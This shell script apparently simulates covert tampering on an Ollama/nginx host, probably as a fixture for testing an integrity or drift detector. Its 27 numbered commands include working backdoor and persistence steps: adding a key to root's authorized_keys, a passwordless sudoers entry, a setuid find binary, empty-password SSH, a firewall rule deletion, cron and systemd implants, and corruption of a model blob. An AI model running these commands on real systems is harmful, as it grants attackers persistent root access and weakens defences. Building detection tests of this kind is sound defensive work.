# What somebody does to a host behind everybody's back. Each line is one deed.
set -e
echo '# a change' >>/etc/nginx/conf.d/ollama.conf                                     # 1
chmod 666 /etc/nginx/ollama/tls.inc                                                   # 2
chown www-data /etc/nginx/ollama/headers.inc                                          # 3
rm /etc/logrotate.d/ollama-door                                                       # 4
chmod 711 /opt/ollama                                                                 # 5
systemctl -q disable --now nginx                                                        # 6
useradd -m -s /bin/bash eve                                                           # 7
ssh-keygen -q -t ed25519 -N '' -C eve -f /tmp/eve && cat /tmp/eve.pub >>/root/.ssh/authorized_keys    # 8
systemd-run -q --unit open perl -MIO::Socket::INET -e \
    '@open = IO::Socket::INET->new(LocalAddr => "0.0.0.0", LocalPort => 8888, Listen => 1) or die; sleep 9999'    # 9
systemctl -q mask logrotate.timer                                                     # 10
dpkg -i /tmp/demo-tool-1.1.deb >/dev/null                                             # 11
mount -o remount,rw /proc/sys && echo 1 >/proc/sys/net/ipv4/conf/all/accept_source_route                 # 12
nft delete rule inet guard input handle "$(nft -a list chain inet guard input | sed -n 's/.*2222.*handle //p')"    # 13
sed 's/^OLLAMA_HOST=.*/OLLAMA_HOST=0.0.0.0:11434/' /opt/ollama/environment >/root/environment
printf '[Service]\nEnvironmentFile=/root/environment\n' >/etc/systemd/system/ollama.service.d/zzz.conf    # 14
systemctl daemon-reload && systemctl restart ollama                                   # 14, too
OLLAMA_MODELS=/var/lib/ollama/models runuser -u ollama -- /opt/ollama/current/bin/ollama standin-model evil 1    # 15
grep -o '"sha256:[0-9a-f]*"' /var/lib/ollama/models/manifests/registry.ollama.ai/library/demo/* | head -n 1 |
    sed 's/.*sha256:\([0-9a-f]*\)"/\1/' >/tmp/blob
printf x | dd of="/var/lib/ollama/models/blobs/sha256-$(cat /tmp/blob)" conv=notrunc bs=1 2>/dev/null    # 16
echo '* * * * * root id' >/etc/cron.d/evil                                            # 17
chmod u+s /usr/bin/find                                                               # 18
echo 'eve ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/eve                                # 19
echo 'PermitEmptyPasswords yes' >>/etc/ssh/sshd_config                                # 20
usermod -aG adm www-data                                                              # 21
usermod -s /bin/bash games                                                            # 22
printf '[Service]\nExecStart=/bin/sleep 9\n[Install]\nWantedBy=multi-user.target\n' >/etc/systemd/system/evil.service    # 23
systemctl -q enable evil.service                                                      # 23, too
mount --bind /tmp /mnt                                                                # 24
dpkg -r demo-other >/dev/null                                                         # 25
echo 'mail:letmein-please' | chpasswd                                                 # 26
mv /etc/nginx/ollama/upstream.inc /tmp && ln -s /tmp/upstream.inc /etc/nginx/ollama/upstream.inc    # 27
